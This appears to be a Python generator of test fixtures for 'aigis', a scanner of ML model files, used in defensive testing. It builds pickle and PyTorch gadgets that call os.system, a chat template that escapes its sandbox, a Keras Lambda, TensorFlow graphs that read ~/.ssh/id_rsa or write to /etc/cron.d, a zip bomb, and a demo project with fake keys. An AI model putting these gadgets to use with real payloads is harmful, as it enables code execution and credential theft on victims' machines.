def tokenizer_config(template=None, **extra):
    cfg = {"bos_token": "<|begin_of_text|>", "eos_token": "<|eot_id|>", "model_max_length": 8192,
           "tokenizer_class": "PreTrainedTokenizerFast", "clean_up_tokenization_spaces": True}
    if template is not None:
        cfg["chat_template"] = template
    cfg.update(extra)
    return json.dumps(cfg, indent=2).encode()


def write_repos(out):
    """Model repository folders: configs that need remote code, chat
    templates, weights in safe and pickle formats side by side."""
    B, M, U = "benign/repos/", "malicious/repos/", "unapproved/repos/"
    st = tensor_files.st_file([("model.embed.weight", "F32", (4, 4))])
    out.add(B + "safe_llama/config.json", hf_config(), "clean", "repo:summary",
            "Transformers config of a safetensors-only repository (summary only)")
    out.add(B + "safe_llama/model.safetensors", st, "clean", "repo:weights", "safetensors weights")
    out.add(B + "safe_llama/tokenizer_config.json", tokenizer_config(tensor_files.LLAMA3), "clean",
            "repo:chat_template", "tokenizer_config.json with Llama 3's chat template")
    out.add(B + "safe_llama/generation_config.json", json.dumps({"bos_token_id": 1}).encode(), "skip",
            "repo:other_json", "generation config: not a file aigis judges")
    out.add(B + "not_a_model/config.json", json.dumps({"name": "web-app", "debug": False}).encode(), "skip",
            "repo:unrelated_config", "a config.json that is not a Transformers config")
    # Remote code: the modules are in the folder, one of them runs a command.
    R = U + "remote_code/"
    out.add(R + "config.json", hf_config("evil", {"AutoConfig": "configuration_evil.EvilConfig",
                                                  "AutoModelForCausalLM": "modeling_evil.EvilForCausalLM"}),
            "unapproved", "repo:trust_remote_code", "auto_map naming the repository's own modules")
    out.add(R + "configuration_evil.py", b"from transformers import PretrainedConfig\n\n"
            b"class EvilConfig(PretrainedConfig):\n    model_type = 'evil'\n", "skip", "repo:module", "config class")
    out.add(R + "modeling_evil.py", b"import os\nfrom transformers import PreTrainedModel\n\n"
            b"os.system('echo aigis-sample-payload')\n\nclass EvilForCausalLM(PreTrainedModel):\n    pass\n",
            "skip", "repo:module", "model class module that runs a command on import")
    out.add(R + "pytorch_model.bin", benign_torch_zip(), "clean", "repo:pickle_weights",
            "pickle-based weights beside remote code")
    out.add(U + "remote_code_missing/config.json",
            hf_config("phi-custom", {"AutoModel": "modeling_phi.PhiModel"}), "unapproved",
            "repo:trust_remote_code_missing", "auto_map naming a module that is not in the folder (fetched on load)")
    out.add(U + "other_repo/config.json",
            hf_config("shared", {"AutoModel": "some-org/shared-code--modeling_shared.SharedModel"}), "unapproved",
            "repo:other_repo_code", "auto_map loading code from another repository")
    out.add(U + "custom_tokenizer/tokenizer_config.json",
            tokenizer_config(None, auto_map={"AutoTokenizer": ["tokenization_x.XTokenizer", None]}),
            "unapproved", "repo:tokenizer_remote_code", "tokenizer_config.json auto_map (custom tokenizer code)")
    out.add(M + "template_escape/tokenizer_config.json", tokenizer_config(tensor_files.SUBCLASSES_WALK),
            "malicious", "repo:chat_template_escape",
            "tokenizer_config.json chat template walking __subclasses__ (CVE-2024-34359 class)")
    out.add(M + "template_escape/config.json", hf_config(), "clean", "repo:summary", "config beside it")
    out.add(M + "template_file/chat_template.jinja", tensor_files.GLOBALS_WALK.encode(), "malicious",
            "repo:chat_template_file", "chat_template.jinja reaching __globals__")


# ---- tensorflow -------------------------------------------------------------

def pb_varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def pb_field(num, payload):
    """A protobuf field: int -> varint, bytes/str -> length-delimited."""
    if isinstance(payload, int):
        return pb_varint(num << 3) + pb_varint(payload)
    if isinstance(payload, str):
        payload = payload.encode()
    return pb_varint(num << 3 | 2) + pb_varint(len(payload)) + payload


def tf_node(name, op, attrs=(), inputs=()):
    """NodeDef: name 1, op 2, input 3, attr 5 (map entry: key 1, AttrValue value 2 with s = 2)."""
    b = pb_field(1, name) + pb_field(2, op) + b"".join(pb_field(3, i) for i in inputs)
    for k, v in attrs:
        b += pb_field(5, pb_field(1, k) + pb_field(2, pb_field(2, v)))
    return b


def tf_const_str(name, value):
    """A string Const: attr dtype (AttrValue type 6 = DT_STRING 7) and value
    (AttrValue tensor 8 = TensorProto: dtype 1, string_val 8)."""
    dtype = pb_field(5, pb_field(1, "dtype") + pb_field(2, pb_field(6, 7)))
    tensor = pb_field(5, pb_field(1, "value") + pb_field(2, pb_field(8, pb_field(1, 7) + pb_field(8, value))))
    return pb_field(1, name) + pb_field(2, "Const") + dtype + tensor


def tf1_saver(path_nodes, path_input, op="SaveV2"):
    """A tf.compat.v1 Saver's graph: the checkpoint op takes its path from `path_input`."""
    return tf_graph([tf_node("w", "VariableV2"), tf_const_str("save/tensor_names", "w"),
                     tf_const_str("save/shape_and_slices", "")] + path_nodes +
                    [tf_node("save/" + op, op, inputs=[path_input, "save/tensor_names", "save/shape_and_slices", "w"])])


def tf_graph(nodes, functions=()):
    """GraphDef: node 1, library 2 (FunctionDefLibrary: function 1 = FunctionDef:
    signature 1 (OpDef name 1), node_def 3)."""
    b = b"".join(pb_field(1, n) for n in nodes)
    lib = b"".join(pb_field(1, pb_field(1, pb_field(1, fname)) + b"".join(pb_field(3, n) for n in fnodes))
                   for fname, fnodes in functions)
    return b + pb_field(2, lib)


def tf_saved_model(graph):
    """SavedModel: schema version 1, meta_graphs 2 (MetaGraphDef: meta_info_def 1, graph_def 2)."""
    info = pb_field(1, "v2.20.0") + pb_field(4, "serve") + pb_field(5, "2.20.0")
    return pb_field(1, 1) + pb_field(2, pb_field(1, info) + pb_field(2, graph))


TF_BENIGN_NODES = [tf_node("x", "Placeholder"), tf_node("w", "VarHandleOp"),
                   tf_node("call", "StatefulPartitionedCall", [("f", "__inference_serve_42")]),
                   tf_node("saver/SaveV2", "SaveV2"), tf_node("saver/RestoreV2", "RestoreV2")]
TF_BENIGN_FUNCS = [("__inference_serve_42", [tf_node("MatMul", "MatMul"), tf_node("Relu", "Relu")])]


def write_tensorflow(out):
    B, U, M = "benign/tensorflow/", "unapproved/tensorflow/", "malicious/tensorflow/"
    out.add(B + "saved_model/saved_model.pb", tf_saved_model(tf_graph(TF_BENIGN_NODES, TF_BENIGN_FUNCS)), "clean",
            "benign:tf_savedmodel", "SavedModel with standard ops, a function library and the saver's Save/Restore")
    out.add(B + "frozen_graph.pb", tf_graph([tf_node("input", "Placeholder"), tf_node("conv", "Conv2D"),
                                             tf_node("relu", "Relu"), tf_node("out", "Identity")]),
            "clean", "benign:tf_graphdef", "frozen GraphDef of standard ops")
    out.add(U + "read_file/saved_model.pb",
            tf_saved_model(tf_graph(TF_BENIGN_NODES + [tf_node("leak", "ReadFile")], TF_BENIGN_FUNCS)),
            "unapproved", "tf:file_op", "SavedModel with a ReadFile node (file exfiltration through an output)")
    out.add(U + "pyfunc/saved_model.pb",
            tf_saved_model(tf_graph(TF_BENIGN_NODES + [tf_node("cb", "EagerPyFunc", [("token", "pyfunc_0")])],
                                    TF_BENIGN_FUNCS)),
            "unapproved", "tf:python_op", "SavedModel calling back into Python (EagerPyFunc)")
    out.add(U + "custom_op.pb", tf_graph([tf_node("input", "Placeholder"), tf_node("dec", "Acme>FastDecode")]),
            "unapproved", "tf:custom_op", "frozen GraphDef with an op outside TensorFlow's standard set")
    out.add(B + "tf1_saver_graph.pb", tf1_saver([tf_const_str("save/Const", "model")], "save/Const"), "clean",
            "benign:tf_saver", "tf.compat.v1 Saver graph: SaveV2 with the default relative name 'model'")
    out.add(U + "saver_absolute_path.pb",
            tf1_saver([tf_const_str("save/Const", "/etc/cron.d/aigis-sample"),
                       tf_node("save/path", "Identity", inputs=["save/Const"])], "save/path:0"),
            "unapproved", "tf:save_path", "SaveV2 writing a checkpoint to an absolute path fixed in the graph")
    out.add(U + "restore_traversal.pb",
            tf1_saver([tf_const_str("save/a", "../../.."), tf_const_str("save/b", "home/user/.ssh/id_rsa"),
                       tf_node("save/join", "StringJoin", [("separator", "/")], inputs=["save/a", "save/b"])],
                      "save/join", op="RestoreV2"),
            "unapproved", "tf:restore_path", "RestoreV2 reading a path built with StringJoin that climbs out with '..'")
    meta = pb_field(1, pb_field(2, 1) + pb_field(3, "root.layer-0") + pb_field(4, "_tf_keras_layer")
                    + pb_field(5, json.dumps(keras_lambda(lambda x: __import__("os").system(CMD) or x))))
    out.add(M + "keras_saved_model/keras_metadata.pb", meta, "malicious", "tf:keras_metadata_lambda",
            "tf.keras SavedModel metadata with a Lambda layer calling os.system")
    out.add("inconclusive/tensorflow_truncated/saved_model.pb",
            tf_saved_model(tf_graph(TF_BENIGN_NODES, TF_BENIGN_FUNCS))[:-7], "inconclusive", "tf:truncated",
            "SavedModel cut short: cannot be called clean")


def write_edge(out):
    Ed = "edge/"
    z = benign_torch_zip()
    out.add(Ed + "torch_zip_truncated.pt", z[: len(z) * 6 // 10], "inconclusive", "edge:truncated_zip",
            "benign torch zip cut at 60%: no central directory")
    b = pickle.dumps({"layer": list(range(200)), "name": "x" * 50}, protocol=4)
    out.add(Ed + "truncated_benign.pkl", b[: len(b) // 2], "inconclusive", "edge:truncated_pickle",
            "benign pickle cut in half, no STOP")
    # zip-bomb-like: 512 MiB of zeros deflated, declared as data.pkl of a torch zip
    size = 512 << 20
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = Pk(4).raw(b"\x8e" + struct.pack("<Q", size - 11)).data()
    chunk = b"\0" * (1 << 20)
    comp = bytearray(co.compress(head))
    crc = zlib.crc32(head)
    remaining = size - len(head)
    while remaining > 0:
        n = min(remaining, len(chunk))
        comp += co.compress(chunk[:n])
        crc = zlib.crc32(chunk[:n], crc)
        remaining -= n
    comp += co.flush()
    bomb = zip_build([{"name": "archive/data.pkl", "data": b"", "comp": bytes(comp), "crc": crc & 0xFFFFFFFF,
                       "usize": size, "method": 8},
                      {"name": "archive/version", "data": b"3\n"}])
    out.add(Ed + "zip_bomb_like_deflate.pt", bomb, "flagged", "edge:zip_bomb",
            "data.pkl deflates 1000:1 to 512 MiB (a BINBYTES8 of zeros with no STOP)")
    out.add(Ed + "empty.pkl", b"", "inconclusive", "edge:empty", "zero-byte .pkl")
    out.add(Ed + "proto_only.pkl", b"\x80\x05", "inconclusive", "edge:proto_only", "PROTO 5 and nothing else")


# ---- benign synthetic ------------------------------------------------------

def write_benign(out):
    B = "benign/synthetic/"
    obj = {"name": "resnet-tiny", "layers": [64, 128, 256], "dropout": 0.1, "shape": (3, 224, 224),
           "tags": {3, 1, 2}, "blob": b"\x00\x01\x02aigis", "big": 2**80 + 7, "neg": -12345678901,
           "none": None, "flags": [True, False], "nested": {"a": [1, 2, {"b": (4.5, "c")}]}}
    for proto in range(6):
        o = dict(obj)
        if proto < 3:
            o.pop("blob")
        out.add(B + f"plain_containers_p{proto}.pkl", pickle.dumps(o, protocol=proto), "clean",
                "benign:plain", f"dict/list/tuple/set/float/big int, pickle.dumps protocol {proto}")
    out.add(B + "plain_list_of_floats_p2.pickle", pickle.dumps([i * 0.5 for i in range(1000)], protocol=2),
            "clean", "benign:plain", "a list of 1000 floats")
    out.add(B + "plain_nested_p4_framed.pkl", pickle.dumps({"k%d" % i: list(range(i % 17)) for i in range(3000)}, protocol=4),
            "clean", "benign:plain", "protocol 4 with several FRAMEs and memo over 256 entries")

    for np2 in (False, True):
        p = Pk(2)
        p.call("collections", "OrderedDict").mark()
        p.str("embedding")
        np_array(p, "f4", (4, 3), f32([i * 0.1 for i in range(12)]), np2=np2)
        p.str("bias")
        np_array(p, "f8", (3,), f64([0.5, -0.5, 0.25]), np2=np2)
        p.str("ids")
        np_array(p, "i8", (2,), struct.pack("<2q", 7, 9), np2=np2)
        p.setitems().stop()
        tag = "numpy2" if np2 else "numpy1"
        out.add(B + f"ordereddict_numpy_arrays_{tag}.pkl", p.data(), "clean", "benign:numpy_pickle",
                f"OrderedDict of ndarrays via {'numpy._core' if np2 else 'numpy.core'}.multiarray._reconstruct + BUILD")
    p = Pk(3)
    p.empty_dict().mark().str("scaler_mean")
    np_array(p, "f8", (4,), f64([5.8, 3.0, 3.7, 1.2]), np2=True)
    p.str("dtype").call("numpy", "dtype", "f4", False, True).setitems().stop()
    out.add(B + "dict_numpy_array_p3.pkl", p.data(), "clean", "benign:numpy_pickle", "protocol 3 dict with an ndarray and a dtype")

    out.add(B + "torch_state_dict.pt", benign_torch_zip(), "clean", "benign:torch_zip",
            "torch.save(state_dict) zip layout, 4 float tensors")
    out.add(B + "torch_state_dict_stem_named.pth", benign_torch_zip("mlp"), "clean", "benign:torch_zip",
            "same with the archive folder named after the file stem (torch < 2)")
    ckpt = Pk(2)
    ckpt.empty_dict().mark().str("epoch").int(12).str("model_state_dict")
    ckpt.call("collections", "OrderedDict").mark()
    for name, key, shape in BENIGN_TENSORS:
        ckpt.str(name)
        torch_tensor(ckpt, key, shape)
    ckpt.setitems().str("optimizer").val({"lr": 0.001, "betas": (0.9, 0.999)}).str("loss").float(0.1234)
    ckpt.setitems().stop()
    out.add(B + "torch_training_checkpoint.ckpt", torch_zip(ckpt.data(), benign_storages()), "clean",
            "benign:torch_zip", "a training checkpoint dict (epoch, state dict, optimizer params, loss)")
    out.add(B + "torch_legacy_state_dict.pt",
            torch_legacy(torch_state_dict_pickle([("w", "94000000", (2, 2))], legacy=True),
                         [("94000000", f32([1, 2, 3, 4]))]), "clean", "benign:torch_legacy",
            "legacy torch.save format: magic, protocol 1001, sys_info, state dict, keys, raw storage")
    out.add(B + "torchscript_module.pt", torchscript_zip(Pk(2).empty_tuple().stop().data()), "clean",
            "benign:torchscript", "TorchScript archive: data.pkl (__torch__.Net), code/, constants.pkl, version")

    storage_pkl = Pk(2)
    storage_pkl.tup(("storage", Glob("torch", "FloatStorage"), "0", "cpu", 2)).binpersid()
    out.add(B + "torch_tensor_plain_pickle.pkl", plain_pickled_tensor(storage_zip(storage_pkl.stop().data())),
            "clean", "benign:torch_plain_pickle",
            "pickle.dumps(torch.tensor) layout: _rebuild_tensor_v2(torch.storage._load_from_bytes(<torch.save zip>))")
    out.add(B + "numpy_float.npy", npy_build("<f4", (3, 4), f32([i * 0.5 for i in range(12)])), "clean",
            "benign:npy", "npy float32 3x4")
    out.add(B + "numpy_object_strings.npy", npy_build("|O", (2,), benign_object_array_pickle()), "clean",
            "benign:npy_object", "npy object array of two str (numpy._core reconstruct pickle)")
    out.add(B + "numpy_arrays.npz",
            zip_build([{"name": "w.npy", "data": npy_build("<f8", (2, 2), f64([1, 2, 3, 4]))},
                       {"name": "b.npy", "data": npy_build("<i8", (2,), struct.pack("<2q", 1, 2))}]),
            "clean", "benign:npz", "np.savez layout, stored members")
    out.add(B + "numpy_arrays_compressed.npz",
            zip_build([{"name": "w.npy", "data": npy_build("<f8", (2, 2), f64([1, 2, 3, 4])), "method": 8}]),
            "clean", "benign:npz", "np.savez_compressed layout")

    jb = joblib_estimator()
    out.add(B + "joblib_sklearn_like.joblib", jb, "clean", "benign:joblib",
            "joblib.dump layout of a LogisticRegression (NumpyArrayWrapper + raw bytes), synthetic")
    out.add(B + "joblib_sklearn_like_object_array.joblib", joblib_estimator(object_array=benign_object_array_pickle()),
            "clean", "benign:joblib", "joblib with an object array (inline nested protocol-5 pickle of str)")
    for kind in ("zlib", "gzip", "bz2", "xz", "lzma"):
        out.add(B + f"joblib_sklearn_like_{kind}.joblib", joblib_compress(jb, kind), "clean",
                f"benign:joblib_{kind}", f"same, {kind}-compressed")

    out.add(B + "model.pkl", b"# This is not a pickle.\nweights: see README\n", "inconclusive", "benign:not_a_model",
            "text file named model.pkl: named like a pickle, content unrecognised, so not called clean")
    un = Pk(2)
    un.global_("mypackage.models", "Net").empty_tuple().newobj()
    un.val({"hidden": 128, "training": False}).build().stop()
    out.add("unapproved/custom_class.pkl", un.data(), "unapproved", "unapproved:custom_class",
            "NEWOBJ + BUILD of mypackage.models.Net: unknown, harmless-looking import")
    un2 = Pk(4)
    un2.call("collections", "OrderedDict").mark().str("head")
    un2.glob("my_lab.layers", "Adapter").empty_tuple().newobj().val({"rank": 8}).build()
    un2.setitems().stop()
    out.add("unapproved/state_dict_with_custom_layer.pkl", un2.data(), "unapproved", "unapproved:custom_class",
            "OrderedDict with one custom my_lab.layers.Adapter object")
    out.add("unapproved/torch_zip_custom_class.pt",
            torch_zip(un.data(), []), "unapproved", "unapproved:torch_custom_class",
            "torch.save of a whole custom nn.Module-like object (mypackage.models.Net)")


# ---- demo -----------------------------------------------------------------

def write_demo(out):
    out.add("clean_state_dict.pt", benign_torch_zip(), "clean", "benign:torch_zip", "a PyTorch state dict")
    out.add("malicious_os_system.pkl", os_system_pickle(2), "malicious", "gadget:os_system",
            "a pickle that calls os.system('echo aigis-sample-payload')")
    out.add("malicious_pytorch.pt", torch_zip(malicious_torch_pickle(), benign_storages()[:1]), "malicious",
            "container:torch_zip", "a PyTorch zip whose data.pkl calls os.system")
    out.add("clean_sklearn_like.joblib", joblib_estimator(), "clean", "benign:joblib",
            "joblib.dump layout of a LogisticRegression (synthetic)")
    un = Pk(2)
    un.global_("mypackage.models", "Net").empty_tuple().newobj().val({"hidden": 128}).build().stop()
    out.add("unapproved_custom_class.pkl", un.data(), "unapproved", "unapproved:custom_class",
            "imports mypackage.models.Net: not known to be safe")
    b = pickle.dumps({"layer": list(range(50))}, protocol=4)
    out.add("truncated.pkl", b[: len(b) // 2], "inconclusive", "edge:truncated_pickle", "a pickle cut in half")
    out.add("malicious_object_array.npy", npy_build("|O", (1,), os_system_pickle(3)), "malicious",
            "container:npy", "numpy object array whose pickle calls os.system")

    def crc_bad(ents):
        ents[0]["crc"] = 0xDEADBEEF
    out.add("tampered_zip_crc.pt", torch_zip(malicious_torch_pickle(), benign_storages()[:1], tamper=crc_bad),
            "malicious", "zip_tamper:crc", "malicious PyTorch zip with a wrong CRC (torch still loads it)")
    out.add("malicious_keras_config.keras",
            keras_model([keras_layer("keras.layers", "Dense", {"name": "d", "units": 1, "activation": {
                "module": "os", "class_name": "function", "config": "system", "registered_name": "function"}})]),
            "malicious", "keras:cve-2025-1550", "a Keras 3 model whose config makes Keras import os.system")
    out.add("unapproved_tf_read_file.pb",
            tf_saved_model(tf_graph(TF_BENIGN_NODES + [tf_node("leak", "ReadFile")], TF_BENIGN_FUNCS)),
            "unapproved", "tf:file_op", "a TensorFlow SavedModel graph with a ReadFile node")
    write_demo_project(out)


# Fake credentials for the demo project, assembled here so that this script
# holds no token-shaped literal; they are random and belong to no account.
DEMO_HF_TOKEN = "hf_" + "oQFnxkIBUBDxTntOVCJMEfnVmhWfwTRNSk"
DEMO_OPENAI_KEY = "sk-proj-" + "Xk2mQ9vLr7TnP4wZs8Yb3Hc6JdFe1GaUoRiKtNy5VxMq0BlCpE" + "T3BlbkFJ" + "a9Zr4Lm7Qw2Ex8Ty6Uk3Io1Pd5Sg0Fh"
DEMO_PG_URL = "postgresql://trainer:" + "Zr8q-Tk2pLw9mN4x" + "@db.internal:5432/features"

DEMO_TRAIN = """\
\"\"\"Fine-tune a sentiment model (aigis demo project: the risky lines are on purpose).\"\"\"
import pickle

import torch
import yaml
from transformers import AutoModelForSequenceClassification

with open("config.yaml") as f:
    config = yaml.load(f)  # builds arbitrary objects with old PyYAML or a full loader

model = AutoModelForSequenceClassification.from_pretrained(
    "acme/sentiment-base", trust_remote_code=True
)
state = torch.load("checkpoint.pt")  # weights_only not given
with open("features.pkl", "rb") as f:
    features = pickle.load(f)

# The safe forms stay quiet:
weights = torch.load("checkpoint.pt", weights_only=True)
with open("config.yaml") as f:
    settings = yaml.safe_load(f)
pinned = AutoModelForSequenceClassification.from_pretrained(
    "acme/sentiment-base", revision="4f9c2d1e8b7a6c5d4e3f2a1b0c9d8e7f6a5b4c3d"
)
"""

DEMO_SERVE = """\
\"\"\"A small inference server (aigis demo project).\"\"\"
import logging
import traceback

from flask import Flask, jsonify, request

app = Flask(__name__)
log = logging.getLogger(__name__)


@app.route("/predict", methods=["POST"])
def predict():
    log.info("request body: %s", request.json)
    try:
        return jsonify(label=classify(request.json["text"]))
    except Exception:
        return jsonify(error=traceback.format_exc()), 500


def classify(text):
    return "positive" if "good" in text else "negative"


if __name__ == "__main__":
    app.run(host="0.0.0.0", port=8080, debug=True)
"""

DEMO_SAFE = """\
\"\"\"Helpers that use the safe forms only: aigis reports nothing here.\"\"\"
import json
import tarfile

import numpy as np
import torch


def load_weights(path):
    return torch.load(path, weights_only=True)


def load_embeddings(path):
    return np.load(path, allow_pickle=False)


def unpack(archive, dest):
    with tarfile.open(archive) as tar:
        tar.extractall(dest, filter="data")


def read_labels(path):
    with open(path) as f:
        return json.load(f)
"""

DEMO_SETTINGS = """\
# Training job settings (aigis demo project)
dataset: acme/reviews
batch_size: 32
feature_store: {url}
""".format(url=DEMO_PG_URL)

# 1x1 transparent PNG: image outputs are skipped, never scanned as text.
DEMO_PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA"
            "60e6kgAAAABJRU5ErkJggg==")


def demo_notebook():
    def code(n, source, outputs=()):
        return {"cell_type": "code", "execution_count": n, "id": "c%d" % n, "metadata": {},
                "outputs": list(outputs), "source": source}
    cells = [
        {"cell_type": "markdown", "id": "m0", "metadata": {},
         "source": ["# Explore the reviews dataset\n", "aigis demo notebook."]},
        code(1, ["!pip install --extra-index-url http://pypi.acme.internal/simple acme-tools\n"]),
        code(2, ["import os\n", "os.environ[\"HF_TOKEN\"] = \"%s\"\n" % DEMO_HF_TOKEN]),
        code(3, ["print(\"using key\", os.environ.get(\"OPENAI_API_KEY\"))\n"],
             [{"name": "stdout", "output_type": "stream",
               "text": ["using key %s\n" % DEMO_OPENAI_KEY]}]),
        code(4, ["import pandas as pd\n", "df = pd.read_pickle(\"reviews.pkl\")\n", "df.plot()\n"],
             [{"data": {"image/png": DEMO_PNG, "text/plain": ["<Figure size 640x480 with 1 Axes>"]},
               "metadata": {}, "output_type": "display_data"}]),
    ]
    nb = {"cells": cells,
          "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
                       "language_info": {"name": "python"}},
          "nbformat": 4, "nbformat_minor": 5}
    return (json.dumps(nb, indent=1) + "\n").encode()


def write_demo_project(out):
    P = "project/"
    out.add(P + "train.py", DEMO_TRAIN.encode(), "unapproved", "code:deserialization",
            "yaml.load, trust_remote_code=True, torch.load without weights_only, pickle.load")
    out.add(P + "serve.py", DEMO_SERVE.encode(), "unapproved", "code:serving",
            "Flask debug on 0.0.0.0, request body logged, traceback returned")
    out.add(P + "safe_helpers.py", DEMO_SAFE.encode(), "clean", "code:safe_forms",
            "torch.load(weights_only=True), np.load(allow_pickle=False), tarfile filter='data'")
    out.add(P + "settings.yaml", DEMO_SETTINGS.encode(), "unapproved", "secret:database_url",
            "a PostgreSQL URL with a password")
    out.add(P + "explore.ipynb", demo_notebook(), "unapproved", "notebook:secrets",
            "HF token in a cell, an OpenAI key in a stream output, pip from plain HTTP, read_pickle")


# ---- real benign models (--real) ------------------------------------------

def write_real(out):
    import numpy as np
    import joblib
    import pandas as pd
    import scipy.sparse as sp
    from sklearn.cluster import KMeans
    from sklearn.datasets import load_iris
    from sklearn.ensemble import GradientBoostingClassifier, IsolationForest, RandomForestClassifier
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.naive_bayes import MultinomialNB
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import Pipeline, make_pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.svm import SVC
    from sklearn.tree import DecisionTreeClassifier
    import warnings
    warnings.filterwarnings("ignore")
    R = "real/"
    tmp = os.path.join(out.root, ".tmp_real")
    os.makedirs(tmp, exist_ok=True)

    def via_file(write):
        path = os.path.join(tmp, "x")
        write(path)
        with open(path, "rb") as f:
            data = f.read()
        os.remove(path)
        return data

    rng = np.random.RandomState(0)
    out.add(R + "numpy_float64.npy", via_file(lambda p: np.save(p + ".npy", rng.rand(8, 5)) or os.rename(p + ".npy", p)),
            "clean", "real:npy", "np.save float64")
    out.add(R + "numpy_int_object_array.npy",
            via_file(lambda p: np.save(p + ".npy", np.array([1, "two", 3, "four"], dtype=object), allow_pickle=True) or os.rename(p + ".npy", p)),
            "clean", "real:npy_object", "np.save object array of ints and str (allow_pickle)")
    st = np.zeros(3, dtype=[("name", "U10"), ("score", "f4"), ("n", "i8")])
    out.add(R + "numpy_structured.npy", via_file(lambda p: np.save(p + ".npy", st) or os.rename(p + ".npy", p)),
            "clean", "real:npy", "np.save structured array")
    out.add(R + "numpy_savez.npz", via_file(lambda p: np.savez(p + ".npz", a=np.arange(10), b=rng.rand(3, 3)) or os.rename(p + ".npz", p)),
            "clean", "real:npz", "np.savez")
    out.add(R + "numpy_savez_compressed_object.npz",
            via_file(lambda p: np.savez_compressed(p + ".npz", w=rng.rand(4), o=np.array([{"k": 1}, [1, 2]], dtype=object)) or os.rename(p + ".npz", p)),
            "clean", "real:npz_object", "np.savez_compressed with an object array of a dict and a list")
    out.add(R + "numpy_array_pickle_p5.pkl", pickle.dumps(rng.rand(16, 4).astype(np.float32), protocol=5),
            "clean", "real:numpy_pickle", "pickle.dumps(ndarray, protocol 5)")

    X, y = load_iris(return_X_y=True)
    texts = ["good model", "bad model", "fine weights", "poor fit", "great accuracy", "weak loss"] * 3
    labels = [1, 0, 1, 0, 1, 0] * 3
    models = {
        "logistic_regression": LogisticRegression(max_iter=300).fit(X, y),
        "random_forest": RandomForestClassifier(n_estimators=5, random_state=0).fit(X, y),
        "gradient_boosting": GradientBoostingClassifier(n_estimators=5, random_state=0).fit(X, y),
        "pipeline_scaler_svc": Pipeline([("scaler", StandardScaler()), ("svc", SVC(probability=False))]).fit(X, y),
        "kmeans": KMeans(n_clusters=3, n_init=2, random_state=0).fit(X),
        "mlp": MLPClassifier(hidden_layer_sizes=(8,), max_iter=50, random_state=0).fit(X, y),
        "decision_tree": DecisionTreeClassifier(random_state=0).fit(X, y),
        "isolation_forest": IsolationForest(n_estimators=5, random_state=0).fit(X),
        "tfidf_pipeline": make_pipeline(TfidfVectorizer(), MultinomialNB()).fit(texts, labels),
    }
    for name, m in models.items():
        for proto in (2, 3, 4, 5):
            out.add(R + f"sklearn_{name}_p{proto}.pkl", pickle.dumps(m, protocol=proto), "clean",
                    "real:sklearn_pickle", f"pickle.dumps({type(m).__name__}, protocol {proto})")
        out.add(R + f"sklearn_{name}.joblib", via_file(lambda p: joblib.dump(m, p)), "clean",
                "real:joblib", f"joblib.dump({type(m).__name__})")
    comp = [("c3", 3), ("zlib", "zlib"), ("gzip", "gzip"), ("bz2", "bz2"), ("xz", "xz"), ("lzma", "lzma")]
    try:
        import lz4  # noqa: F401
        comp.append(("lz4", "lz4"))
    except ImportError:
        pass
    for name in ("random_forest", "pipeline_scaler_svc", "tfidf_pipeline"):
        for tag, c in comp:
            out.add(R + f"sklearn_{name}_{tag}.joblib", via_file(lambda p: joblib.dump(models[name], p, compress=c)),
                    "clean", f"real:joblib_{tag}", f"joblib.dump(compress={c!r})")
    out.add(R + "joblib_numpy_dict.joblib", via_file(lambda p: joblib.dump({"w": rng.rand(5, 5), "ids": np.arange(5)}, p)),
            "clean", "real:joblib", "joblib.dump of a dict of arrays")

    csr = sp.random(20, 20, density=0.1, format="csr", random_state=0)
    for fmt in ("csr", "csc", "coo"):
        out.add(R + f"scipy_sparse_{fmt}.pkl", pickle.dumps(csr.asformat(fmt), protocol=4), "clean",
                "real:scipy_sparse", f"pickle of a scipy.sparse {fmt} matrix")
    out.add(R + "scipy_sparse_save_npz.npz", via_file(lambda p: sp.save_npz(p + ".npz", csr) or os.rename(p + ".npz", p)),
            "clean", "real:scipy_npz", "scipy.sparse.save_npz")
    df = pd.DataFrame({"a": np.arange(6), "b": list("abcdef"), "c": rng.rand(6),
                       "d": pd.Categorical(list("xyxyxy")), "t": pd.date_range("2024-01-01", periods=6)})
    for proto in (2, 4, 5):
        out.add(R + f"pandas_dataframe_p{proto}.pkl", pickle.dumps(df, protocol=proto), "clean",
                "real:pandas", f"pickle of a DataFrame (int, str, float, categorical, datetime), protocol {proto}")
    out.add(R + "pandas_to_pickle.pkl", via_file(lambda p: df.to_pickle(p, compression=None)), "clean",
            "real:pandas", "DataFrame.to_pickle")
    out.add(R + "pandas_series.pkl", pickle.dumps(pd.Series([1.5, 2.5], index=["x", "y"]), protocol=4), "clean",
            "real:pandas", "pickle of a Series")
    write_real_keras(out, R, via_file)
    os.rmdir(tmp)


def write_real_keras(out, R, via_file):
    """Models saved by Keras 3 itself (numpy backend: no TensorFlow needed)."""
    os.environ.setdefault("KERAS_BACKEND", "numpy")
    import keras
    from keras import layers
    seq = keras.Sequential([keras.Input((8,)), layers.Dense(16, activation="relu"), layers.Dropout(0.1),
                            layers.BatchNormalization(), layers.Dense(4, activation="softmax")])
    seq.compile(optimizer="adam", loss="categorical_crossentropy", metrics=["accuracy"])
    out.add(R + "keras_sequential.keras", via_file(lambda p: seq.save(p + ".keras") or os.rename(p + ".keras", p)),
            "clean", "real:keras", f"keras {keras.__version__} Sequential (Dense, Dropout, BatchNorm), compiled")
    inp = keras.Input((10,), name="x")
    h = layers.Dense(8, activation="gelu")(inp)
    merged = layers.Add()([h, layers.LayerNormalization()(h)])
    fun = keras.Model(inp, layers.Dense(1)(merged))
    fun.compile(optimizer=keras.optimizers.SGD(0.01), loss=keras.losses.Huber(), metrics=[keras.metrics.AUC()])
    out.add(R + "keras_functional.keras", via_file(lambda p: fun.save(p + ".keras") or os.rename(p + ".keras", p)),
            "clean", "real:keras", "Keras functional model with a residual Add, SGD/Huber/AUC")
    lam = keras.Sequential([keras.Input((3,)), layers.Lambda(lambda x: x * 2.0)])
    out.add("unapproved/real_keras_lambda.keras",
